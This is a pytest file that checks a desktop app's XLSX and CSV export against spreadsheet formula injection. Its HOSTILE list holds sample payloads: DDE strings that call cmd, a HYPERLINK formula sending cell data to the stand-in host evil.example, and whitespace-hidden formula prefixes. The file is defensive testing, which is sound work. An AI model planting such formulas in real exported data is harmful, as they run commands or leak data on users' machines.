"""Exported spreadsheets never carry a live formula (OWASP CSV injection): a cell a
spreadsheet would evaluate is written as text, and still reads as what was stored."""

import csv
import zipfile

from openpyxl import load_workbook

from desktop.domain.plan_export import export_plan_xlsx

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
           "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "  =1+1", "\t=1+1", "\r=1+1",
           "\n =1+1"]


def _formulas(path) -> list[str]:
    """The formulas a spreadsheet program would find in the workbook's sheets."""
    with zipfile.ZipFile(path) as book:
        return [name for name in book.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)]


def test_xlsx_export_writes_formula_like_text_as_text(tmp_path):
    rows = [[value, "ordinary", 3] for value in HOSTILE]
    path = export_plan_xlsx(tmp_path / "plan.xlsx", "plan", ["Customer", "Note", "N"], rows)
    assert _formulas(path) == []
    sheet = load_workbook(path).active
    for number, value in enumerate(HOSTILE, start=2):
        cell = sheet.cell(number, 1)
        assert cell.data_type == "s", (value, cell.data_type)
        # the stored text is what the reader sees (XML reads a bare CR as a line feed)
        assert cell.value == value.replace("\r", "\n")
        assert cell.quotePrefix or not value.lstrip().startswith(("=", "+", "-", "@"))


def test_xlsx_keeps_numbers_numbers_and_phones_readable(tmp_path):
    rows = [[-5, 12.5, "+86 138 0013 8000", "-", "张伟", None]]
    path = export_plan_xlsx(tmp_path / "plan.xlsx", "plan", list("ABCDEF"), rows)
    sheet = load_workbook(path).active
    cells = list(sheet[2])
    assert [c.value for c in cells[:5]] == [-5, 12.5, "+86 138 0013 8000", "-", "张伟"]
    assert [c.data_type for c in cells[:5]] == ["n", "n", "s", "s", "s"]
    assert cells[2].quotePrefix  # shown as typed, never evaluated, no apostrophe to read
    assert _formulas(path) == []


def test_csv_export_prefixes_cells_a_spreadsheet_would_evaluate(tmp_path):
    from desktop.domain.spreadsheet import write_csv

    rows = [[value, -5, "+86 138 0013 8000", "-12.5", "普通"] for value in HOSTILE]
    path = write_csv(tmp_path / "out.csv", ["name", "n", "phone", "text", "cn"], rows)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        read = list(csv.reader(handle))
    assert read[0] == ["name", "n", "phone", "text", "cn"]
    for value, row in zip(HOSTILE, read[1:], strict=True):
        assert row[0] == "'" + value  # the quote makes it text; the rest is what was stored
        assert row[1] == "-5"  # a number is a number
        assert row[2] == "'+86 138 0013 8000"
        assert row[3:] == ["-12.5", "普通"]  # a plain number evaluates to itself: kept
